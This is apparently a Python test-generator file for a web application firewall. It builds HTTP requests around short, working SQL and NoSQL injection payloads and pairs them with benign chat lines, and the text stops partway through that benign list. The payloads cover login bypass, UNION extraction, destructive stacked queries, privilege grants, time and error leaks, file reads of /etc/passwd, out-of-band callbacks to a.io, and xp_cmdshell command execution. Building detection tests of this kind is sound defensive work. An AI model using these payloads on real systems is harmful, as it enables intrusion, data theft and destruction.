"""Blind set "hundredthirtyninth": SQL injection (and its NoSQL cousin) written as short as it still works, for
every SQL detection title, with benign requests that carry the same words innocently.

The angle: the shortest payload that still works. A bug-bounty hunter facing a field limited to 8, 16, 24 or 32
characters, or a filter that rejects anything long, writes the minimal form of each family: the fewest characters
that still reach the database and do something observable (a boolean flip, a delay, an error that leaks a value,
a DNS or SMB callback, a file read or write, a row that should not come back, a command run by the server).
Each family gets payloads at several lengths (about a third at 12 characters or fewer, a third at 13-24, a third
at 25-40); the comment above each list names the database or engine it works on (MySQL/MariaDB, PostgreSQL,
Microsoft SQL Server, Oracle, SQLite, MongoDB) and the context it is typed into (a quoted string, a number, an
ORDER BY column, a column or table name, a login form, a JavaScript $where clause).

Families and sub-families (one per detection title, as remembered):
  sqli: libinjection-sqli, sql-tautology-boolean, sql-comment-sequence, union-select, stacked-queries,
    time-based-blind (sleep/benchmark/pg_sleep/waitfor), error-based (extractvalue/updatexml/convert/cast),
    out-of-band (load_file/into outfile/xp_dirtree/utl_http/dblink), information-schema-probing,
    mysql-comment-obfuscation, function-based-probing (substring/ascii/char/concat), sql-authentication-bypass,
    nosql-injection (Mongo operators, $where), hex-char-encoding, stored-procedure-xp-cmdshell,
    having-groupby-orderby-probing, like-between-in-operators

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body, a raw
form-typed body that is not key=value, or in User-Agent, Referer, a custom header or a cookie. MongoDB operator
injection through bracketed parameter names (qs / PHP array syntax, `user[$ne]=x`) goes unquoted as parameter
names or a raw form body; whole MongoDB login documents go as the JSON body. Payloads with a newline (comment
tricks) never go in a header, cookie or path.

Authorship and independence: written for this repository from general knowledge of each attack family and the
detection titles alone; no WAF rule, engine source, ruleset regression test or public payload list was read.
Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen import UA, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "hundredthirtyninth"

# ----------------------------------------------------------------------------------------------------------------
# Payloads. An entry is a payload string, or (payload, real placement, rs placement) when the payload only works
# in one kind of place.
Entry = str | tuple[str, str, str]

# MySQL/MariaDB first, others where named: the compact string-and-number shapes libinjection fingerprints
# (typed into a quoted string `name='...'` or a bare number `id=...` in a WHERE clause; a row flip is the signal)
LIBINJECTION: list[Entry] = [
    "1'or'1'='1",
    "'or 1#",
    "1 or 1=1",
    "'-0-'",
    "\"or\"\"=\"",
    "1)or(1=1",
    "'||1#",
    "'=0#",
    "-1 or 1",
    "'xor 1#",
    "'or''='",
    "1'and 0#",
    "1' or '1'='1' --",
    "' or 1=1 limit 1#",
    "1) or (1=1)--",
    "1')) or (('1'='1",
    "' or 'a'<'b",
    "-1' or 2>1 #",
    "1 or true--",
    "\") or (\"1\"=\"1",
    "' or not 0=1#",
    "1' and 1=(select 1 from dual)#",
    "' or exists(select 1)#",
    "' or 1 in (select 1)-- -",
    "1 and (select 1)=1 and 1=1",
    "1' or (select 'x')='x' -- ",
    "' or 1=1 order by 1 desc limit 1#",
    "x' or ascii(user())>0 -- -",
]
# Boolean flips: MySQL unless named (&&, ||, XOR are MySQL; the plain AND/OR shapes run on every SQL database);
# the true and false variant side by side is how a blind tester confirms the field reaches the WHERE clause
TAUTOLOGY: list[Entry] = [
    "1 and 1=1",
    "1 and 1=2",
    "' and 1=1#",
    "' and 0#",
    "1 and true",
    "1&&1",
    "1&&0",
    "1'&&'1",
    "'or 2>1#",
    "1 xor 1",
    "1 and 5-3=2",
    "1' and '1'='1",
    "1' and '1'='2",
    "' and 'a'='a' --",
    "1 and 3>2 and 1=1",
    "' and not 1=2 -- -",
    "1 and (2>1)",
    "1) and (1=1",
    "1') and ('a'='a",
    "1 or 'x'='x'",
    "1 and (select 1)=(select 1)",
    "' and (select 2)>(select 1) -- -",
    "' and 'x'=(select 'x') #",
    "1' and 8291=8291 and 'kHcX'='kHcX",
    "1) and 2713=2713 and (3021=3021",
    "' and 1=1 and ''='",
    "1 and 1=(case when 1=1 then 1 end)",
    "1' and (1=1)=(2=2) and '1'='1",
]
# Comment terminators that cut the rest of the query: MySQL (#, -- plus whitespace, /* */), PostgreSQL, MSSQL
# and Oracle (--, /* */), SQLite (--, /* unterminated); a newline ends # and -- (the "\n" payloads)
COMMENT: list[Entry] = [
    "1'-- -",
    "1'#",
    "'/*",
    "1/*",
    "1;--",
    "')--",
    "'))#",
    "1--+",
    "x'/**/",
    "';#",
    "\"--",
    "1)-- -",
    "1'/*comment*/--",
    "1'#\nor 1=1#",
    "1'--\nor 1=1--",
    "1' and 1=1 /*",
    "1'/*!*/-- ",
    "'))) -- -",
    "\") -- \"",
    "1'/**/or/**/1=1--",
    "x'--\n;select 1--",
    "1'/* multi\nline */ or 1=1 -- x",
    "1' or 'a'='a' /* trailing */",
    "1' --+ and password='x",
    "1'#--'/*'*/ or 1=1 #",
    "1'-- \nunion select 1-- -",
    "1' or 1=1;/* left open",
    "1' and 1=1;-- comment",
]
# UNION-based extraction, shortest first: MySQL (#, \N, 1e0 glued to UNION), PostgreSQL/SQLite (VALUES),
# MSSQL, Oracle (FROM dual, v$version), SQLite (sqlite_master); the result shows up in the page
UNION: list[Entry] = [
    "1 union select 1",
    "'union select 1#",
    "\\Nunion select 1",
    "1e0union select 1",
    "'union select 1,2#",
    "-1 union select 1,2,3",
    "0 union all select null",
    "' union values(1)--",
    "'union(select user())#",
    "-1 union select @@version",
    "' union select null,null,null--",
    "' union select name,pass from users--",
    "' union select 1,@@version,3#",
    "-1 union select null,version()--",
    "' union select 1 from dual--",
    "' union select banner from v$version--",
    "' union select sqlite_version()--",
    "1 union select * from (select 1)a",
    "' union distinct select user()#",
    "' UNION ALL SELECT NULL,NULL#",
    "-1 union select 1,schema()#",
    "1 union select 1,2 from dual where 1#",
    "') union select 1,2-- -",
    "-1' union select current_user--",
    "0 union select top 1 name from users",
    "-1 union select user,2 from mysql.user#",
    "1 union select 1 limit 1,1#",
    "-1 uNiOn SeLeCt 1,2#",
]
# Stacked queries (a second statement after ;): MSSQL and PostgreSQL run them from most drivers, MySQL with
# multi-statements on (PHP mysqli_multi_query, some Node drivers), SQLite through executescript
STACKED: list[Entry] = [
    "1;select 1",
    "';select 1",
    "1;shutdown",
    "';shutdown--",
    "1;drop table x",
    "';select 1--",
    "1;select pg_sleep(5)",
    "1;drop table users--",
    "';drop table users#",
    "';insert into log values(1)--",
    "1;select 1/0--",
    "1;create table x(y int)--",
    "1;select version()--",
    "');delete from users--",
    "1;truncate table logs--",
    "';set @a=1;select @a#",
    "1;update users set is_admin=1--",
    "';create user x identified by 'y'#",
    "1;grant all on *.* to 'x'@'%'#",
    "';insert into users values('x','y')--",
    "1;copy (select '') to '/tmp/x'--",
    "1;select * into t2 from users--",
    "1;attach database '/tmp/x.php' as x--",
    "1;alter login sa with password='x'--",
    "';update users set password='x'--",
    "1;create login x with password='y'--",
    "1;backup database master to disk='x'",
    "1;delete from sessions;--",
]
# Time-based blind, each with its engine: MySQL SLEEP/BENCHMARK, PostgreSQL pg_sleep/pg_sleep_for, MSSQL WAITFOR,
# Oracle DBMS_PIPE.RECEIVE_MESSAGE / DBMS_LOCK, SQLite RANDOMBLOB (a heavy call); the delay is the signal
TIME: list[Entry] = [
    "sleep(5)",
    "1-sleep(5)",
    "'-sleep(5)-'",
    "pg_sleep(5)",
    "sleep(5)#",
    "1^sleep(5)",
    "1|sleep(5)",
    "1*sleep(5)",
    "'|sleep(5)#",
    "1 and sleep(5)",
    "'or sleep(5)#",
    "waitfor delay'0:0:5'",
    "1;waitfor delay'0:0:5'--",
    "if(1=1,sleep(5),0)",
    "1 rlike sleep(5)",
    "pg_sleep_for('5s')",
    "randomblob(500000000)",
    "';select pg_sleep(5)--",
    "(select(0)from(select(sleep(5)))v)",
    "benchmark(5000000,md5(1))",
    "'and benchmark(9999999,sha1(1))#",
    "' and sleep(5) and '1'='1",
    "dbms_pipe.receive_message('a',5)",
    "1 and 1=(select 1 from pg_sleep(5))",
    "case when 1=1 then pg_sleep(5) end",
    "'xor(if(now()=sysdate(),sleep(5),0))or'",
    "';begin dbms_lock.sleep(5);end;--",
    "1);waitfor delay'0:0:5'--",
]
# Error-based: an error message that carries the value. MySQL (~0+1 and EXP(~0) overflow, EXTRACTVALUE/UPDATEXML
# XPath errors, GTID_SUBSET, ST_LatFromGeoHash), PostgreSQL (division by zero, ::int and CAST of text), MSSQL
# (implicit nvarchar-to-int conversion, CONVERT), Oracle (CTXSYS.DRITHSX.SN, XMLTYPE, UTL_INADDR)
ERROR: list[Entry] = [
    "'",
    "1'\"",
    "~0+1",
    "exp(~0)",
    "1/0",
    "'||1/0||'",
    "1=user::int",
    "1=db_name()",
    "1=@@version",
    "1 and ~0+1",
    "'and exp(~0)#",
    "cast(version()as int)",
    "convert(int,@@version)",
    "1=convert(int,db_name())",
    "xmltype('<:'||user||'>')",
    "1 in (select @@version)",
    "1=version()::int",
    "extractvalue(1,concat(0x7e,user()))",
    "updatexml(0,concat(0x7e,user()),0)",
    "1 and gtid_subset(user(),1)",
    "ctxsys.drithsx.sn(1,user)",
    "utl_inaddr.get_host_name(user)",
    "1=cast(current_user as int)",
    "'||cast(version() as int)||'",
    "1 and ST_LatFromGeoHash(version())",
    "1 and st_pointfromgeohash(user(),1)",
    "'+cast(@@version as int)+'",
    "1 and updatexml(1,concat('~',user()),1)",
]
# Out-of-band and file access: MySQL LOAD_FILE / INTO OUTFILE / DUMPFILE (UNC path on Windows for the SMB/DNS
# callback), MSSQL xp_dirtree / xp_fileexist / xp_subdirs to a UNC share, Oracle UTL_HTTP / UTL_INADDR /
# HTTPURITYPE / DBMS_LDAP, PostgreSQL dblink / pg_read_file / lo_import / COPY, SQLite fileio readfile
OOB: list[Entry] = [
    "pg_ls_dir('/')",
    "readfile('/etc/passwd')",
    "load_file('/etc/passwd')",
    "lo_import('/etc/passwd')",
    "into outfile'/tmp/x'",
    "into dumpfile'/tmp/x'",
    "xp_dirtree'\\\\a.io\\x'",
    "copy x from '/etc/passwd'",
    "lo_export(16385,'/tmp/x')",
    "pg_read_file('/etc/passwd')",
    "pg_read_binary_file('/etc/passwd')",
    "dblink_connect('host=a.io')",
    "';exec xp_fileexist'\\\\a.io\\x'--",
    "';exec xp_subdirs'\\\\a.io\\s'--",
    "master..xp_dirtree'//a.io/x'",
    "'||utl_http.request('http://a.io')||'",
    "utl_inaddr.get_host_address('a.io')",
    "httpuritype('http://a.io').getclob()",
    "dbms_ldap.init('a.io',389)",
    "' into outfile '/tmp/o.txt'#",
    "select 1 into outfile '/var/www/x.php'",
    "load_file(concat('\\\\\\\\',user(),'.a.io\\\\x'))",
    "1 union select load_file('/etc/hosts')",
    "';copy (select 1) to '/tmp/x'--",
    "dblink('host=a.io user=x','select 1')",
    "';exec master..xp_dirtree'\\\\a.io\\x'--",
    "load data infile '/etc/passwd' into table t",
    "' union select 1 into dumpfile '/tmp/u'#",
]
# Catalog probing: the version variables and system catalogs of MySQL (information_schema, mysql.user,
# mysql.innodb_table_stats), PostgreSQL (pg_shadow, pg_tables), MSSQL (sysobjects, sys.databases), Oracle
# (dual, v$version, all_tables, tabs), SQLite (sqlite_master), DB2 (sysibm.sysdummy1); the short ones go into a
# column-list, sort or table-name parameter that is interpolated unquoted, the long ones into a WHERE clause
CATALOG: list[Entry] = [
    "@@version",
    "version()",
    "@@datadir",
    "database()",
    "schema()",
    "mysql.user",
    "pg_shadow",
    "sysobjects",
    "all_users",
    "v$version",
    "@@servername",
    "db_name()",
    "sqlite_master",
    "sysibm.sysdummy1",
    "@@version_compile_os",
    "sys.sql_logins",
    "master..sysdatabases",
    "current_database()",
    "all_tab_columns",
    "mysql.innodb_table_stats",
    "information_schema.tables",
    "1 and exists(select*from sysobjects)",
    "' and (select 1 from dual)=1--",
    "1 and exists(select 1 from all_tables)",
    "' union select sql from sqlite_master--",
    "' union select name from sys.databases--",
    "1 and exists(select 1 from pg_tables)",
    "'union select table_name from tabs--",
]
# MySQL versioned and inline comments used as whitespace and to hide keywords (/*! */, /*!50000 */, /**/),
# plus MySQL's other token separators (newline, #-to-newline); MySQL/MariaDB only
MYSQL_COMMENT: list[Entry] = [
    "'/*!or*/1#",
    "1/*!and*/0",
    "1/**/or/**/1",
    "'/**/or/**/1#",
    "1/*!50000or*/1",
    "'\nor\n1#",
    "1/*!or*/2>1",
    "'/*!11111or*/1#",
    "1/*!union*//*!select*/1",
    "-1/**/union/**/select/**/1",
    "'/*!50000union*/select 1#",
    "1 /*!12345union all select*/ 1",
    "/*!50000select*/ user()",
    "'/*!or*/sleep(5)#",
    "1/*!30000and*/1=2",
    "'/*!*/union/*!*/select 1#",
    "1 /*!00000union*/ select 1",
    "1 union#\nselect 1",
    "-1'/*!50000UnIoN*//*!50000SeLeCt*/1#",
    "1'/*!ORDER BY*/ 3#",
    "' /*!and*/ 1=(/*!select*/ 1)#",
    "1/*foo*/and/*bar*/sleep(5)",
    "1'/*!50000or*/'1'='1",
    "-1 union/*!*/select/*!*/@@version",
    "'/*!50000and*/extractvalue(1,0x7e)#",
    "1/*!12345and*/ascii(user())>64",
    "' or/**/1=1/**/limit/**/1#",
    "1 union--\nselect 1",
]
# Character-by-character probing with string functions: MySQL (ASCII, ORD, MID, LEFT, INSTR, LOCATE, STRCMP),
# PostgreSQL (POSITION, ||), MSSQL (LEN, UNICODE, SUBSTRING, +), Oracle (SUBSTR, CHR, ||), SQLite (SUBSTR);
# the short forms go into an echoed column or sort parameter, the long forms into a WHERE clause
FUNCTION: list[Entry] = [
    "ord(user())",
    "hex(user())",
    "len(user)",
    "length(user)",
    "upper(user)",
    "md5(user())",
    "sha1(user())",
    "ascii(user)",
    "left(user(),1)",
    "mid(version(),1,1)",
    "substring(user(),1,1)",
    "1 and ascii(user())>64",
    "'+char(65)+char(66)+'",
    "'||chr(65)||chr(66)||'",
    "1 and instr(user(),'r')",
    "' and substr(user,1,1)='S'--",
    "1 and ord(mid(user(),1,1))>97",
    "1 and substring(@@version,1,1)=8",
    "1 and left(version(),1)='8'",
    "concat_ws(':',user(),@@version)",
    "' and ascii(substr(user,1,1))=83--",
    "1 and unicode(db_name())>77",
    "1 and substr(sqlite_version(),1,1)='3'",
    "1 and locate('root',user())",
    "1 and strcmp(left(user(),1),'r')=0",
    "1 and position('p' in user)=1",
    "1 and right(user(),9)='localhost'",
    "1 and length(database())=8",
]
# Login forms (username or password field, query `user='...' and pass='...'`): MySQL (#, ||), MSSQL and
# PostgreSQL (--), Oracle and SQLite (--); the signal is being logged in as the first or a named user
AUTH_BYPASS: list[Entry] = [
    "admin'--",
    "admin'#",
    "admin'/*",
    "' or 1=1#",
    "admin')--",
    "'='",
    "' or '1",
    "x' or 1#",
    "') or 1#",
    "admin\"--",
    "\"or 1#",
    "'||'1'='1",
    "admin' or '1'='1",
    "admin' or 1=1 limit 1#",
    "' or username like 'adm%'#",
    "admin'and 1=1#",
    "') or ('1'='1",
    "' or 'x'='x'--",
    "admin' --",
    "\") or (\"a\"=\"a",
    "' or true#",
    "' union select 1,'admin','x'#",
    "admin' and password like '%'#",
    "' or 1=1 order by id limit 1#",
    "admin'/*!*/or/*!*/'1'='1",
    "x' or username='admin' -- -",
    "' or role='admin' limit 1#",
    "admin' or 'a'='a' limit 0,1 --",
]
# MongoDB (Express with qs, PHP array params, Mongoose without sanitizing): query operators in a value, in a
# bracketed parameter name or in the JSON login body; $where / mapReduce JavaScript (`this.user == '...'`)
NOSQL: list[Entry] = [
    '{"$ne":1}',
    '{"$gt":""}',
    '{"$ne":null}',
    ("user[$ne]=x", "param-name", "rs-param-name"),
    ("pass[$gt]=", "form", "rs-raw-body"),
    ("id[$exists]=1", "param-name", "rs-raw-body"),
    "'||1||'",
    "'||'a'=='a",
    '{"$where":"1"}',
    '{"$regex":".*"}',
    '{"$in":["admin"]}',
    '{"$nin":[""]}',
    '{"$exists":true}',
    '{"$where":"sleep(5000)"}',
    "';sleep(5000);'",
    "1;return true",
    ("pwd[$regex]=.", "form", "rs-param-name"),
    ("user[$regex]=^adm", "param-name", "rs-raw-body"),
    ("password[$ne]=1", "form", "rs-param-name"),
    ("username[$in][]=admin", "param-name", "rs-raw-body"),
    "'||this.role=='admin'||'",
    "this.password.match(/.*/)",
    ('{"user":"admin","pass":{"$ne":""}}', "json-body", "rs-json-body"),
    ('{"$or":[{},{"a":1}]}', "json-body", "rs-json-body"),
    '{"$expr":{"$eq":[1,1]}}',
    '{"$where":"this.pass.length>0"}',
    ('{"password":{"$regex":"^a"}}', "json-body", "rs-json-body"),
    "'&&this.password.match(/^a/)//",
]
# Hex, binary and CHAR encodings that avoid quotes or keywords: MySQL (0x.., x'..', 0b.., b'..', UNHEX,
# FROM_BASE64, _latin1 introducer, CONVERT USING), PostgreSQL (CHR, DECODE), Oracle (CHR), MSSQL (CHAR, +)
HEX_CHAR: list[Entry] = [
    "0x61646d696e",
    "0x726f6f74",
    "x'61646d696e'",
    "0b01100001",
    "b'01100001'",
    "char(0x61)",
    "'or 0x31#",
    "1 and 'a'=x'61'",
    "'and 0x61='a'#",
    "chr(97)||chr(100)",
    "unhex('61646d696e')",
    "' or name=0x61646d696e#",
    "_latin1 0x61646d696e",
    "from_base64('YWRtaW4=')",
    "1 and user() like 0x25",
    "concat(0x7e,user(),0x7e)",
    "char(97)+char(100)",
    "convert(0x61646d696e using utf8)",
    "decode('YWRtaW4=','base64')",
    "1 and user() like 0x726f6f7425",
    "load_file(0x2f6574632f706173737764)",
    "-1 union select 0x61646d696e",
    "' or name=char(97,100,109,105,110)#",
    "'||chr(97)||chr(100)||chr(109)||'",
    "1 union select 0x3c3f3d6070776460",
    "' and user()>0x72#",
    "' or username=unhex('61646d696e')#",
    "1 and substr(user(),1,1)=0x72",
]
# Stored procedures and command execution: MSSQL (xp_cmdshell, sp_configure, sp_addlogin, sp_addsrvrolemember,
# sp_executesql, xp_servicecontrol, sp_who/sp_helpdb), PostgreSQL (COPY ... FROM PROGRAM), MySQL (CALL of the sys
# schema procedures, lib_mysqludf_sys sys_exec / sys_eval); typed after `;` or into a field built into EXEC
STORED_PROC: list[Entry] = [
    "exec sp_who",
    "exec sp_who2",
    "sys_exec('id')",
    "sys_eval('id')",
    "';exec sp_who",
    "1;exec sp_who",
    "';exec xp_msver",
    "';exec sp_who2--",
    "1;exec sp_help--",
    "1;exec sp_helpdb--",
    "';exec sp_databases--",
    "1;exec xp_enumgroups--",
    "';exec xp_cmdshell'id'--",
    "1;exec xp_cmdshell 'whoami'",
    "1;exec master..xp_cmdshell'dir'",
    "1;exec sp_configure'xp_cmdshell',1--",
    "1;exec sp_addlogin'x','y'--",
    "1;exec sp_addsrvrolemember'x','sysadmin'",
    "1;exec sp_executesql N'select 1'",
    "';exec xp_servicecontrol'stop','w3svc'",
    "1;exec('xp_cmd'+'shell ''id''')",
    "1;copy x from program 'id'--",
    "';call sys.ps_setup_show_enabled()#",
    "1;exec sp_linkedservers--",
    "1;exec xp_cmdshell'ping a.io'--",
    "';reconfigure;exec xp_cmdshell'id'--",
    "1 union select sys_eval('id')#",
    "';exec sp_configure'clr enabled',1--",
]
# HAVING / GROUP BY / ORDER BY: column-count probing (ORDER BY n), MSSQL "column ... is invalid in the select
# list" errors (HAVING 1=1, GROUP BY col HAVING), MySQL WITH ROLLUP / PROCEDURE ANALYSE, and a sort parameter
# that is interpolated after ORDER BY (RAND(bool), subqueries, CASE, IF; MySQL, PostgreSQL, MSSQL)
ORDER_GROUP: list[Entry] = [
    "1 order by 1",
    "1 order by 99",
    "1 group by 1",
    "1 having 1=1",
    "(select 1)",
    "rand(1=1)",
    "1,sleep(5)",
    "' order by 1#",
    "' having 1=1--",
    "1' order by 5#",
    "id,(select 1)",
    "-1 order by 3--",
    "1 order by 1,2,3--",
    "1' group by 1,2#",
    "1' order by 1 desc#",
    "1 order by (select 1)",
    "1 group by 1 with rollup",
    "1 procedure analyse()",
    "' group by username having 1=1--",
    "' group by users.id having 1=1--",
    "if(1=1,1,(select 1 union select 2))",
    "1,(select 1 from pg_sleep(5))",
    "(case when 1=1 then 1 else 1/0 end)",
    "(case when 1=1 then id else name end)",
    "id,if(1=1,sleep(5),0)",
    "' order by 1,2,3,4--+",
    "1 having (select 1)=1--",
    "(select 1 from dual where 1=1)",
]
# LIKE / RLIKE / REGEXP / SOUNDS LIKE (MySQL), ILIKE and SIMILAR TO (PostgreSQL), GLOB (SQLite), BETWEEN and IN
# (every SQL database) used as the comparison instead of = (a filtered "=" does not stop them)
LIKE_IN: list[Entry] = [
    "1 like 1",
    "1 rlike 1",
    "%' and 0#",
    "%' and 1=1#",
    "'or'a'like'a",
    "1 or 1 in(1)",
    "1 or 2 in (2)",
    "' or 1 like 1#",
    "' or name like '%",
    "1 and 3 in (1,2,3)",
    "' or 'a' in ('a')#",
    "'or 1 in (select 1)#",
    "1 and 'a' ilike 'A'",
    "' or 2 between 1 and 3#",
    "1 and 1 between 0 and 2",
    "' or user() like 'r%'#",
    "1 and user() regexp '^r'",
    "' or 1 sounds like 1#",
    "' or 'abc' glob 'a*'--",
    "1 and 'abc' like '_b_'",
    "' and (select 1) in (1)#",
    "' or 'a' like binary 'a'#",
    "' and password like 'a%'#",
    "' or 'a' similar to 'a'--",
    "1 and user() between 'a' and 'z'",
    "1 and mid(user(),1,1) in ('r')",
    "1 and 1 in (select 1 from dual)",
    "%' or 1 between 0 and 2 or '%'='",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("sqli", "libinjection-sqli", LIBINJECTION),
    ("sqli", "sql-tautology-boolean", TAUTOLOGY),
    ("sqli", "sql-comment-sequence", COMMENT),
    ("sqli", "union-select", UNION),
    ("sqli", "stacked-queries", STACKED),
    ("sqli", "time-based-blind", TIME),
    ("sqli", "error-based", ERROR),
    ("sqli", "out-of-band", OOB),
    ("sqli", "information-schema-probing", CATALOG),
    ("sqli", "mysql-comment-obfuscation", MYSQL_COMMENT),
    ("sqli", "function-based-probing", FUNCTION),
    ("sqli", "sql-authentication-bypass", AUTH_BYPASS),
    ("sqli", "nosql-injection", NOSQL),
    ("sqli", "hex-char-encoding", HEX_CHAR),
    ("sqli", "stored-procedure-xp-cmdshell", STORED_PROC),
    ("sqli", "having-groupby-orderby-probing", ORDER_GROUP),
    ("sqli", "like-between-in-operators", LIKE_IN),
]
# operator injection written as `name[$op]=value`: sent unquoted where it names the place
RAW_KV_SUBS = {"nosql-injection"}

# ----------------------------------------------------------------------------------------------------------------
# Placements
REAL_CYCLE = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Api-Version",
              "param-name", "xml", "multipart-field", "path"]
RS_CYCLE = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
            "rs-header:X-Test-Header", "rs-cookie", "rs-param-name"]
REAL_NAMES = ["q", "name", "id", "sort", "email", "username", "password", "filter", "order"]
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
COOKIE_SAFE = "!#$&'()*+-./:<=>?@[]^_`{|}~"
KV_SAFE = "=&[]._-:/'*$!(),;{}~@^"


def _header_safe(value: str) -> bool:
    return all(" " <= ch <= "~" for ch in value) and len(value) < 2000


def _enc(value: str, safe: str = "") -> str:
    return urllib.parse.quote(value.encode(), safe=safe)


def _request(method: str, uri: str, body: str = "", content_type: str = "", **headers: str) -> dict[str, Any]:
    h = {"User-Agent": UA, "Accept": "*/*"}
    if content_type:
        h["Content-Type"] = content_type
    h.update(headers)
    return {"method": method, "uri": uri, "body": body, "headers": h}


def _xml_body(value: str, root: str, name: str) -> str:
    escaped = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'<?xml version="1.0" encoding="UTF-8"?><{root}><{name}>{escaped}</{name}></{root}>'


def _multipart(parts: list[tuple[str, str, str | None]]) -> str:
    out = []
    for name, value, filename in parts:
        if filename is None:
            out.append(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n')
        else:
            fn = filename.replace('"', "%22")
            out.append(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"; filename="{fn}"\r\n'
                       f"Content-Type: application/octet-stream\r\n\r\n{value}\r\n")
    return "".join(out) + f"--{BOUNDARY}--\r\n"


def _real(place: str, name: str, v: str, raw: bool) -> dict[str, Any]:
    """Our routes. `raw`: the payload is itself `name=value` (operator injection) and goes unquoted."""
    mp = "multipart/form-data; boundary=" + BOUNDARY
    if place == "query":
        return _get("/api/users?" + name + "=" + _enc(v) + "&page=1")
    if place == "form":
        pair = _enc(v, KV_SAFE) if raw else name + "=" + _enc(v)
        return _request("POST", "/admin/users/search", "csrf_token=t0k3n&" + pair,
                        "application/x-www-form-urlencoded")
    if place == "json":
        return _json("/api/users", {"email": "a@example.org", name: v})
    if place == "json-body":
        return {**_json("/api/users", {}), "body": v}
    if place == "cookie":
        cookie = "session=abc123; " + name + "=" + _enc(v, COOKIE_SAFE)
        return _request("GET", "/api/users?page=1", Cookie=cookie)
    if place.startswith("header:"):
        return _request("GET", "/api/users?page=1", **{place.split(":", 1)[1]: v})
    if place == "param-name":
        if raw:
            return _get("/api/users?" + _enc(v, KV_SAFE))
        return _get("/api/users?" + _enc(v) + "=1&page=1")
    if place == "xml":
        return _request("POST", "/api/users", _xml_body(v, "user", name), "application/xml")
    if place == "multipart-field":
        return _request("POST", "/api/users", _multipart([("csrf_token", "t0k3n", None), (name, v, None)]), mp)
    if place == "path":
        return _get("/api/users/" + _enc(v))
    raise ValueError(place)


def _rs(place: str, path: str, name: str, v: str, raw: bool) -> dict[str, Any]:
    form = "application/x-www-form-urlencoded"
    if place == "rs-query":
        return _request("GET", path + "?" + name + "=" + _enc(v))
    if place == "rs-form":
        return _request("POST", path, name + "=" + _enc(v), form)
    if place == "rs-json":
        return _request("POST", path, json.dumps({name: v}), "application/json")
    if place == "rs-json-body":
        return _request("POST", path, v, "application/json")
    if place == "rs-xml":
        return _request("POST", path, _xml_body(v, "root", name), "text/xml")
    if place == "rs-raw-body":
        return _request("POST", path, v, form)
    if place.startswith("rs-header:"):
        return _request("GET", path, **{place.split(":", 1)[1]: v})
    if place == "rs-cookie":
        return _request("GET", path, Cookie=name + "=" + _enc(v, COOKIE_SAFE))
    if place == "rs-param-name":
        if raw:
            return _request("GET", path + "?" + _enc(v, KV_SAFE))
        return _request("GET", path + "?" + _enc(v) + "=1")
    raise ValueError(place)


def _fits(place: str, v: str) -> bool:
    """Header-borne and path placements need a printable single-line ASCII value."""
    if place.startswith(("header:", "rs-header:")) or place in ("cookie", "rs-cookie"):
        return _header_safe(v)
    if place == "path":
        return _header_safe(v) and len(v) < 400
    return True


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for s, (category, sub, entries) in enumerate(FAMILIES):
        for i, entry in enumerate(entries):
            raw = False
            if isinstance(entry, tuple):
                payload, real_place, rs_place = entry
                raw = sub in RAW_KV_SUBS and "=" in payload and not payload.startswith(("{", "["))
            else:
                payload = entry
                real_place = REAL_CYCLE[(i + s) % len(REAL_CYCLE)]
                rs_place = RS_CYCLE[(i + 2 * s) % len(RS_CYCLE)]
                if not _fits(real_place, payload):
                    real_place = ["json", "form", "query"][i % 3]
                if not _fits(rs_place, payload):
                    rs_place = ["rs-json", "rs-form", "rs-query"][i % 3]
            name = REAL_NAMES[(i + s) % len(REAL_NAMES)]
            rs_path = RS_PATHS[(i + s) % len(RS_PATHS)]
            rs_name = RS_NAMES[(i + 3 * s) % len(RS_NAMES)]
            for place, rec in ((real_place, _real(real_place, name, payload, raw)),
                               (rs_place, _rs(rs_place, rs_path, rs_name, payload, raw))):
                n += 1
                yield {**rec, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                       "placement": place, "payload": payload}


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (Slack chat and bios, searches, admin notes, links, profiles, uploads)
CHAT = [
    # databases at work
    "the slow query log shows a select with order by created_at and no index, adding one tonight",
    "we're on MySQL 8.0.36 in prod and 8.0.35 in staging, the upgrade is scheduled for Sunday",
    "Postgres 16 migration done; pg_dump took 40 minutes for the events table",
    "can someone with prod access run explain analyze on the weekly report query?",
    "the union of both customer lists has 1,204 rows after removing duplicates",
    "please don't drop table on staging without asking, people were testing on it",
    "group by region, then having count(*) > 10 gives the list sales asked for",
    "information_schema.columns is how the migration tool finds the nullable fields",
    "the ORM escapes everything, but the raw query in reports.py uses string formatting, filing a ticket",
    "reminder: parameterized queries only, no f-strings with user input in SQL",
    "sqlite is fine for the desktop app, just run VACUUM after the big delete",
    "MongoDB $regex queries without an anchor are slow, use ^ at the start",
    "the aggregation uses $match, $group and $sort, pipeline is in the wiki",
    "mongoose strictQuery is on so unknown filter fields are dropped",
    "SQL Server 2019 has xp_cmdshell disabled by default and we keep it that way",
    "Oracle license review is next month, ask procurement before adding cores",
    "the backup job uses mysqldump --single-transaction, no locks during the day",
    "pg_sleep is handy when testing the statement_timeout setting in staging",
    "benchmark results for the new disks: 3x faster on random reads",
    "the waitfor in the old stored procedure was removed, the job runs hourly now",
